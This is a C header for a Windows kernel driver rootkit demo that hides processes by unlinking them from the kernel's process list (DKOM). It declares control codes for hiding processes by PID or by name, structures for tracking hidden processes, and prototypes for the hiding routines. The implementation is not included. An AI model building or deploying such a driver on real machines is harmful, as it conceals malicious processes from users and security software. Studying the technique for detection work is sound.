#pragma once
/*
 * hideproc - DKOM process hiding demo
 * ONLY for learning, run it in a VM!!!
 */
#include <ntifs.h>

#define HP_POOL_TAG      'PdiH'
#define HP_DEVICE_NAME   L"\\Device\\HideProc"
#define HP_SYMLINK_NAME  L"\\DosDevices\\HideProc"

#define HP_MAX_NAME      64
#define HP_MAX_HIDDEN    32

#define IOCTL_HP_HIDE_PID   CTL_CODE(FILE_DEVICE_UNKNOWN, 0x901, METHOD_BUFFERED, FILE_ANY_ACCESS)
#define IOCTL_HP_ADD_NAME   CTL_CODE(FILE_DEVICE_UNKNOWN, 0x902, METHOD_BUFFERED, FILE_ANY_ACCESS)
#define IOCTL_HP_UNHIDE_ALL CTL_CODE(FILE_DEVICE_UNKNOWN, 0x903, METHOD_BUFFERED, FILE_ANY_ACCESS)

#define DBG_PRINT(...) DbgPrintEx(DPFLTR_IHVDRIVER_ID, 0, "[HideProc] " __VA_ARGS__)

// names of processes that get hidden automatically when they start
typedef struct _HP_NAME_ENTRY {
    LIST_ENTRY Link;
    WCHAR      Name[HP_MAX_NAME];
} HP_NAME_ENTRY, *PHP_NAME_ENTRY;

// processes we unlinked, so we can put them back on unload
typedef struct _HP_HIDDEN {
    PEPROCESS  Process;
    HANDLE     Pid;
} HP_HIDDEN;

typedef struct _HP_OFFSETS {
    ULONG UniqueProcessId;
    ULONG ActiveProcessLinks;
} HP_OFFSETS;

extern HP_OFFSETS     g_Offsets;
extern LIST_ENTRY     g_HideList;
extern KSPIN_LOCK     g_HideLock;
extern HP_HIDDEN      g_Hidden[HP_MAX_HIDDEN];
extern ULONG          g_HiddenCount;
extern PDEVICE_OBJECT g_Device;

// not in the WDK headers, exported by ntoskrnl
NTKERNELAPI BOOLEAN PsGetProcessExitProcessCalled(PEPROCESS Process);

// hide.c
BOOLEAN  HpFindOffsets(VOID);
NTSTATUS HpHideProcess(PEPROCESS Process);
VOID     HpUnhideAll(VOID);
NTSTATUS HpAddName(PCWSTR Name);
BOOLEAN  HpNameIsHidden(PCUNICODE_STRING ImagePath);
VOID     HpFreeNames(VOID);

// notify.c
VOID HpProcessNotify(PEPROCESS Process, HANDLE ProcessId, PPS_CREATE_NOTIFY_INFO CreateInfo);
